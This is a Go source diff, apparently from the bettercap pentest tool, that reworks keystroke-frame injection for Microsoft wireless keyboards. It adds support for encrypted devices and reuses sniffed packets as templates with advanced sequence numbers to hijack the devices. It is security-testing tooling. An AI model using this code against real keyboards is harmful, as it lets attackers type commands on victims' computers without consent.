@@ -4,50 +4,59 @@ import (
 	"fmt"
 
 	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
 )
 
+// MicrosoftBuilder builds frames for Microsoft keyboards, the encrypted
+// variant XORs the payloads with the device address.
 type MicrosoftBuilder struct {
-	seqn uint16
+	Encrypted bool
 }
 
-func (b MicrosoftBuilder) frameFor(template []byte, cmd *Command) []byte {
-	data := make([]byte, len(template))
-	copy(data, template)
-
-	data[4] = byte(b.seqn & 0xff)
-	data[5] = byte((b.seqn >> 8) & 0xff)
-	data[7] = cmd.Mode
-	data[9] = cmd.HID
-	// MS checksum algorithm - as per KeyKeriki paper
-	sum := byte(0)
-	last := len(data) - 1
-	for i := 0; i < last; i++ {
-		sum ^= data[i]
+func (b MicrosoftBuilder) name() string {
+	if b.Encrypted {
+		return "microsoft (encrypted)"
 	}
-	sum = ^sum & 0xff
-	data[last] = sum
-
-	b.seqn++
-
-	return data
+	return "microsoft"
 }
 
-func (b MicrosoftBuilder) BuildFrames(dev *network.HIDDevice, commands []*Command) error {
-	if dev == nil {
-		return fmt.Errorf("the microsoft frame injection requires the device to be visible")
-	}
-
+// template returns the last payload sniffed from the device in clear text,
+// keystrokes are preferred since they carry the highest sequence number.
+func (b MicrosoftBuilder) template(dev *network.HIDDevice) []byte {
 	tpl := ([]byte)(nil)
 	dev.EachPayload(func(p []byte) bool {
 		if len(p) == 19 {
-			tpl = p
-			return true
+			if b.Encrypted {
+				p = packets.HIDMicrosoftCrypt(dev.RawAddress, p)
+			}
+			if tpl == nil || tpl[6] != packets.HIDMicrosoftKeystroke || p[6] == packets.HIDMicrosoftKeystroke {
+				tpl = p
+			}
 		}
 		return false
 	})
+	return tpl
+}
+
+func (b MicrosoftBuilder) BuildFrames(dev *network.HIDDevice, commands []*Command) error {
+	if dev == nil {
+		return fmt.Errorf("the %s frame injection requires the device to be visible", b.name())
+	}
 
+	tpl := b.template(dev)
 	if tpl == nil {
-		return fmt.Errorf("at least one packet of 19 bytes needed to hijack microsoft devices, try to hid.sniff the device first")
+		return fmt.Errorf("at least one packet of 19 bytes needed to hijack %s devices, try to hid.sniff the device first", b.name())
+	}
+
+	// the receiver drops frames with an old sequence number
+	seqn := packets.HIDMicrosoftSequence(tpl)
+	frameFor := func(cmd *Command) []byte {
+		seqn++
+		_, data := packets.NewHIDMicrosoftKeystroke(tpl, seqn, cmd.Mode, cmd.HID)
+		if b.Encrypted {
+			data = packets.HIDMicrosoftCrypt(dev.RawAddress, data)
+		}
+		return data
 	}
 
 	last := len(commands) - 1
@@ -57,14 +66,16 @@ func (b MicrosoftBuilder) BuildFrames(dev *network.HIDDevice, commands []*Comman
 			next = commands[i+1]
 		}
 
-		if cmd.IsHID() {
-			cmd.AddFrame(b.frameFor(tpl, cmd), 5)
-			if next == nil || cmd.HID == next.HID || next.IsSleep() {
-				cmd.AddFrame(b.frameFor(tpl, &Command{}), 0)
+		if cmd.IsMouse() {
+			return errNoMouse(b.name())
+		} else if cmd.IsHID() {
+			cmd.AddFrame(frameFor(cmd), 5)
+			if !cmd.Hold && (next == nil || cmd.HID == next.HID || next.IsSleep()) {
+				cmd.AddFrame(frameFor(&Command{}), 0)
 			}
 		} else if cmd.IsSleep() {
 			for i, num := 0, cmd.Sleep/10; i < num; i++ {
-				cmd.AddFrame(b.frameFor(tpl, &Command{}), 0)
+				cmd.AddFrame(frameFor(&Command{}), 0)
 			}
 		}
 	}